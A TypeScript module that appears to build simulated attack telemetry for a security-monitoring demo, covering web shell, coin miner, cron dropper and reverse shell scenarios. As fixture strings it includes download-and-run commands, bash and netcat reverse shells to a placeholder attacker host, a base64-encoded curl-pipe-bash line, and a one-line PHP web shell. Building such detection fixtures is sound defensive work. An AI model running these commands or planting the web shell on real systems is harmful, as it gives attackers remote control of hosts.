// The bad afternoons of the demo's customers, as the agents see them: process starts and connections
// that the built-in detection rules recognise, and the alerts some agents raise themselves.
import { createHash } from 'node:crypto';
import type { ConnectionItem, ProcessItem } from '../telemetry/types.ts';

/** A scenario's telemetry on one host, and the alerts its agent reports on its own. */
export interface AttackOnHost {
  kind: AttackKind;
  items: Array<ProcessItem | ConnectionItem>;
  /** The process a responder kills (`kill-process` with its pid and executable hash). */
  victim: { pid: number; sha256: string; name: string } | null;
  /** The file a responder collects as evidence, with its bytes. */
  evidence: { path: string; content: string } | null;
  /** Where the attack came from, for the incident notes. */
  attacker: string;
}

export type AttackKind = 'webshell' | 'miner' | 'dropper' | 'reverse-shell';

/** The SHA-256 an executable has in the demo (stable per path and distribution). */
export function exeHash(exe: string, os: string): string {
  return createHash('sha256').update(`stockade-demo-exe\0${os}\0${exe}`).digest('hex');
}

interface Ctx {
  os: string;
  hostname: string;
  ip: string;
  /** Minutes before `now` the scenario starts. */
  at: (minutesAgo: number) => string;
  pid: (n: number) => number;
  attacker: string;
}

function proc(c: Ctx, o: Omit<ProcessItem, 'kind' | 'sha256' | 'cmdlineTruncated' | 'startedAt'> & { minutesAgo: number }): ProcessItem {
  const { minutesAgo, ...rest } = o;
  return { kind: 'process', ...rest, sha256: exeHash(o.exe, c.os), cmdlineTruncated: false, startedAt: c.at(minutesAgo) };
}

function outbound(c: Ctx, pid: number, exe: string, user: string, remote: string, port: number, localPort: number): ConnectionItem {
  return { kind: 'connection', protocol: 'tcp', state: 'ESTABLISHED', localAddress: c.ip, localPort, remoteAddress: remote, remotePort: port, pid, exe, user };
}

/** A web shell uploaded through a PHP form: commands, a download piped to a shell, a reverse shell home. */
function webshell(c: Ctx): AttackOnHost {
  const php = { parentExe: '/usr/sbin/php-fpm8.2', parentName: 'php-fpm8.2', parentCmdline: 'php-fpm: pool www' };
  const www = { uid: 33, user: 'www-data', cwd: '/var/www/html/uploads' };
  const fpm = c.pid(0);
  const recon = proc(c, {
    ...php,
    ...www,
    pid: c.pid(1),
    ppid: fpm,
    exe: '/usr/bin/dash',
    name: 'sh',
    cmdline: 'sh -c id; uname -a; cat /etc/os-release',
    minutesAgo: 96,
  });
  const fetch = proc(c, {
    ...php,
    ...www,
    pid: c.pid(2),
    ppid: fpm,
    exe: '/usr/bin/dash',
    name: 'sh',
    cmdline: `sh -c curl -fsSL http://${c.attacker}/u.sh | sh`,
    minutesAgo: 94,
  });
  const shell = proc(c, {
    ...www,
    pid: c.pid(3),
    ppid: c.pid(2),
    exe: '/usr/bin/bash',
    name: 'bash',
    cmdline: `bash -c bash -i >& /dev/tcp/${c.attacker}/4444 0>&1`,
    parentExe: '/usr/bin/dash',
    parentName: 'sh',
    parentCmdline: `sh -c curl -fsSL http://${c.attacker}/u.sh | sh`,
    minutesAgo: 93,
  });
  return {
    kind: 'webshell',
    items: [recon, fetch, shell, outbound(c, shell.pid, shell.exe, 'www-data', c.attacker, 4444, 48_212)],
    victim: { pid: shell.pid, sha256: shell.sha256!, name: 'bash' },
    evidence: {
      path: '/var/www/html/uploads/.cache.php',
      content: `<?php /* uploaded ${c.at(97)} via /upload.php */ if(isset($_REQUEST['c'])){ echo '<pre>'; system($_REQUEST['c']); echo '</pre>'; } ?>\n`,
    },
    attacker: c.attacker,
  };
}

/** A coin miner dropped under /tmp by a build job, kept alive from the job user's crontab. */
function miner(c: Ctx, user: { name: string; uid: number }): AttackOnHost {
  const dir = '/tmp/.X11-cache';
  const agent = proc(c, {
    pid: c.pid(1),
    ppid: 1,
    uid: user.uid,
    user: user.name,
    exe: `${dir}/kworkerd`,
    name: 'kworkerd',
    cmdline: `${dir}/kworkerd -o stratum+tcp://${c.attacker}:3333 --donate-level 1 -B`,
    cwd: dir,
    parentExe: '/usr/bin/bash',
    parentName: 'bash',
    parentCmdline: `bash ${dir}/install.sh`,
    minutesAgo: 310,
  });
  const cron = proc(c, {
    pid: c.pid(2),
    ppid: c.pid(0),
    uid: user.uid,
    user: user.name,
    exe: '/usr/bin/crontab',
    name: 'crontab',
    cmdline: `crontab ${dir}/cron.txt`,
    cwd: dir,
    parentExe: '/usr/bin/bash',
    parentName: 'bash',
    parentCmdline: `bash ${dir}/install.sh`,
    minutesAgo: 309,
  });
  return {
    kind: 'miner',
    items: [agent, cron, outbound(c, agent.pid, agent.exe, user.name, c.attacker, 3333, 51_733)],
    victim: { pid: agent.pid, sha256: agent.sha256!, name: 'kworkerd' },
    evidence: { path: `${dir}/cron.txt`, content: `*/5 * * * * ${dir}/kworkerd -o stratum+tcp://${c.attacker}:3333 -B >/dev/null 2>&1\n` },
    attacker: c.attacker,
  };
}

/** A script fetched by cron that decodes and runs its payload. */
function dropper(c: Ctx): AttackOnHost {
  const run = proc(c, {
    pid: c.pid(1),
    ppid: c.pid(0),
    uid: 0,
    user: 'root',
    exe: '/usr/bin/dash',
    name: 'sh',
    cmdline: 'sh -c echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43Ny91cGQgfCBiYXNoCg== | base64 -d | bash',
    cwd: '/root',
    parentExe: '/usr/sbin/cron',
    parentName: 'cron',
    parentCmdline: '/usr/sbin/CRON -f',
    minutesAgo: 150,
  });
  return {
    kind: 'dropper',
    items: [run],
    victim: null,
    evidence: {
      path: '/etc/cron.d/sys-update',
      content: `*/15 * * * * root echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43Ny91cGQgfCBiYXNoCg== | base64 -d | bash\n`,
    },
    attacker: c.attacker,
  };
}

/** An admin account used from a strange place: netcat handing out a shell. */
function reverseShell(c: Ctx, user: { name: string; uid: number }): AttackOnHost {
  const nc = proc(c, {
    pid: c.pid(1),
    ppid: c.pid(0),
    uid: user.uid,
    user: user.name,
    exe: '/usr/bin/nc.traditional',
    name: 'nc',
    cmdline: `nc -e /bin/bash ${c.attacker} 443`,
    cwd: `/home/${user.name}`,
    parentExe: '/usr/bin/bash',
    parentName: 'bash',
    parentCmdline: '-bash',
    minutesAgo: 48,
  });
  return {
    kind: 'reverse-shell',
    items: [nc, outbound(c, nc.pid, nc.exe, user.name, c.attacker, 443, 40_116)],
    victim: { pid: nc.pid, sha256: nc.sha256!, name: 'nc' },
    evidence: { path: `/home/${user.name}/.bash_history`, content: `sudo -l\nwhich nc\nnc -e /bin/bash ${c.attacker} 443\n` },
    attacker: c.attacker,
  };
}

/** The telemetry of `kind` on a host; `basePid` keeps its pids clear of the host's daemons. */
export function attackOn(
  kind: AttackKind,
  host: { os: string; hostname: string; ip: string; user: { name: string; uid: number } },
  o: { now: Date; basePid: number; attacker: string },
): AttackOnHost {
  const c: Ctx = {
    os: host.os,
    hostname: host.hostname,
    ip: host.ip,
    at: (m) => new Date(o.now.getTime() - m * 60_000).toISOString(),
    pid: (n) => o.basePid + n * 7,
    attacker: o.attacker,
  };
  switch (kind) {
    case 'webshell':
      return webshell(c);
    case 'miner':
      return miner(c, host.user);
    case 'dropper':
      return dropper(c);
    case 'reverse-shell':
      return reverseShell(c, host.user);
  }
}

/** Alerts an agent raises on its own (antivirus, file integrity), not through the detection rules. */
export const AGENT_ALERTS = [
  { rule: 'av.eicar-test', severity: 'low', title: 'Antivirus test file (EICAR) found in a mail spool' },
  { rule: 'fim.sshd-config', severity: 'medium', title: 'sshd_config changed outside a package update' },
  { rule: 'av.hacktool-linpeas', severity: 'high', title: 'Privilege-escalation script (linPEAS) written to /dev/shm' },
  { rule: 'fim.ld-preload', severity: 'critical', title: '/etc/ld.so.preload created: a library is injected into every process' },
  { rule: 'av.pua-nmap', severity: 'low', title: 'Network scanner (nmap) installed by a user' },
] as const;
